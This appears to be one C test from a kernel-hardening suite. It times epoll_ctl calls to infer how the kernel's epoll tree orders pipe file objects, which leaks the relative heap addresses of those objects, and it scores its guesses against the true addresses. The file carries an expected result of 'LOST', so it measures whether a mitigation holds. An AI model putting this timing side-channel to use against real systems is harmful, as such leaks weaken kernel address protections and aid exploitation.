// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

COUNTED_ATTACK("opaque_ids", "epoll_order", "LOST",
	       "An epoll instance watches three of eight pipes at a time; the one that is found "
	       "soonest is the middle one of the kernel's tree, and all threes together tell the "
	       "order of the pipes.",
	       "The tree is ordered by a keyed value.",
	       "The program knows in which order its objects lie in the kernel's heap.");

#define PIPES 8
#define ROUNDS 9
#define ADD 1
#define REMOVE 2
#define CHANGE 3

static int pipes[PIPES];

struct event {
	uint32_t events;
	uint64_t data;
} __attribute__((packed));

static struct event read_event = { 1, 0 };

static uint64_t find_time(int epoll, int file)
{
	uint64_t least = UINT64_MAX;

	for (int i = 0; i < ROUNDS; i++) {
		const uint64_t start = time_stamp();
		uint64_t time;

		call4(__NR_epoll_ctl, epoll, CHANGE, file, (long)&read_event);
		time = time_stamp() - start;
		if (time < least)
			least = time;
	}
	return least;
}

/* Which of the three is found soonest; -1: two are. */
static int soonest(const int *three)
{
	const int epoll = (int)call1(__NR_epoll_create1, 0);
	uint64_t times[3];
	int first = 0;

	for (int i = 0; i < 3; i++)
		if (call4(__NR_epoll_ctl, epoll, ADD, three[i], (long)&read_event) != 0)
			leave(9);
	for (int i = 0; i < 3; i++) {
		times[i] = find_time(epoll, three[i]);
		if (times[i] < times[first])
			first = i;
	}
	call1(__NR_close, epoll);
	for (int i = 0; i < 3; i++)
		if (i != first && times[i] == times[first])
			return -1;
	return first;
}

static int middle_address(const uint64_t *places)
{
	for (int i = 0; i < 3; i++) {
		const uint64_t one = places[(i + 1) % 3], other = places[(i + 2) % 3];

		if ((one < places[i]) != (other < places[i]))
			return i;
	}
	return -1;
}

/* Counts the threes of which the middle was told, and those where it is that of the addresses. */
static void try_three(int a, int b, int c, unsigned int *told, unsigned int *right)
{
	const int three[3] = { pipes[a], pipes[b], pipes[c] };
	uint64_t places[3];
	const int found = soonest(three);

	for (int i = 0; i < 3; i++)
		places[i] = file_struct(own_task(), three[i]);
	*told += found >= 0;
	*right += found >= 0 && found == middle_address(places);
}

static bool control(void)
{
	const int epoll = (int)call1(__NR_epoll_create1, 0);

	for (int i = 0; i < PIPES; i++) {
		int ends[2] = { -1, -1 };

		call2(__NR_pipe2, (long)ends, 0);
		pipes[i] = ends[0];
	}
	return is_ordinary() &&
	       call4(__NR_epoll_ctl, epoll, ADD, pipes[0], (long)&read_event) == 0 &&
	       call4(__NR_epoll_ctl, epoll, CHANGE, pipes[0], (long)&read_event) == 0 &&
	       call4(__NR_epoll_ctl, epoll, REMOVE, pipes[0], 0) == 0;
}

static bool fire(void)
{
	unsigned int told = 0, right = 0, all = 0;

	for (int a = 0; a < PIPES; a++)
		for (int b = a + 1; b < PIPES; b++)
			for (int c = b + 1; c < PIPES; c++) {
				try_three(a, b, c, &told, &right);
				all++;
			}
	say_number("count: threes", all);
	say_number("count: of which the middle one was told", told);
	say_number("count: which is that of the addresses", right);
	if (told < all / 2) {
		say_part("attacker: the time tells nothing about the tree\n");
		leave(9);
	}
	return right == told;
}

static void victim(void)
{
	victim_waits();
}
